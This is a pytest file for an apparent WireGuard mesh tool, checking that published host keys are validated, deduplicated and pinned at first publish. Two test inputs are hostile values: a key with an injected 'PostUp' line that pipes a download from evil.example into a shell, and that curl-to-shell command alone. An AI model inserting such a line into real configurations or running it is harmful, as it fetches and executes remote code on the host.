"""hostkeys: published host keys are checked where they are used, and pinned at first publish."""
from __future__ import annotations

import pytest

from wgmesh_core.hostkeys import resolve_host_keys, served_host_keys
from wgmesh_core.keys import generate_private_key, public_key
from wgmesh_core.plan import host_config

from . import article_texts as art
from .conftest import TODAY

K = art.PUBLIC_KEYS
HOSTS = {host: K[host] for host in ("z", "a", "c")}
ZERO = "A" * 43 + "="


def new_key():
    return public_key(generate_private_key())


def test_good_keys_are_accepted(spec):
    keys = resolve_host_keys(spec, HOSTS)
    assert keys.accepted == HOSTS and keys.refused == {} and keys.new_pins == {}


@pytest.mark.parametrize("bad, why", [
    (ZERO, "the all-zero key"),
    (K["a"] + "\nPostUp = curl https://evil.example/x | sh", "not a WireGuard key"),
    ("curl https://evil.example/x | sh", "not a WireGuard key"),
    (K["e"], "the public key of developers.e"),
    (K["c"], "the same public key as c"),
])
def test_a_bad_published_key_leaves_that_host_out_and_only_it(spec, bad, why):
    keys = resolve_host_keys(spec, dict(HOSTS, a=bad))
    assert why in keys.refused["a"]
    assert "a" not in keys.accepted and keys.accepted["z"] == K["z"]
    hub = host_config(spec, "z", TODAY, keys.accepted, art.PSKS, keys.refused)
    assert why in hub.left_out["a"] and "a" not in [p.name for p in hub.peers]
    assert {"e", "f"} <= {p.name for p in hub.peers}
    assert hub.pending == []          # left out is not pending: a live peer of a is not protected


def test_twins_both_refused_without_pins(spec):
    keys = resolve_host_keys(spec, dict(HOSTS, a=K["c"]))
    assert set(keys.refused) == {"a", "c"} and set(keys.accepted) == {"z"}


def test_first_publish_is_pinned_and_a_change_is_refused(spec):
    first = resolve_host_keys(spec, HOSTS, pins={})
    assert first.new_pins == HOSTS and first.accepted == HOSTS
    changed = new_key()
    later = resolve_host_keys(spec, dict(HOSTS, c=changed), pins=HOSTS)
    assert later.accepted == {"z": K["z"], "a": K["a"]} and later.new_pins == {}
    assert f"published the public key {changed}, not its pinned key {K['c']}" in later.refused["c"]
    assert "salt-run wgmesh.accept_key c" in later.refused["c"]
    assert {changed, K["c"]} <= later.seen


def test_a_pinned_key_stands_when_the_mine_forgets_it(spec):
    keys = resolve_host_keys(spec, {"z": K["z"]}, pins=HOSTS)
    assert keys.accepted == HOSTS


def test_another_hosts_pinned_key_is_refused(spec):
    keys = resolve_host_keys(spec, {"z": K["z"], "a": K["a"], "c": K["a"]}, pins={"z": K["z"], "a": K["a"]})
    assert keys.accepted == {"z": K["z"], "a": K["a"]} and "public key of a" in keys.refused["c"]
    assert keys.new_pins == {}


def test_a_developer_given_a_host_key_later_is_left_out_not_the_host(data):
    from wgmesh_core.validate import load_network
    data["developers"]["f"]["public_key"] = K["a"]
    spec = load_network(data)
    keys = resolve_host_keys(spec, HOSTS, pins=HOSTS)
    assert keys.accepted == HOSTS
    hub = host_config(spec, "z", TODAY, keys.accepted, art.PSKS, keys.refused)
    assert hub.left_out == {"f": "its public key is the key of host a"}
    assert [p.name for p in hub.peers if p.public_key == K["a"]] == ["a"]


def test_keys_served_by_the_master_are_checked_again(spec):
    served = {"accepted": {"z": K["z"], "c": ZERO}, "refused": {"a": "changed key", "nobody": "x"}}
    keys = served_host_keys(spec, served)
    assert keys.accepted == {"z": K["z"]}
    assert keys.refused["a"] == "changed key" and "all-zero" in keys.refused["c"] and "nobody" not in keys.refused
    assert set(served_host_keys(spec, "garbage").refused) == {"z", "a", "c"}
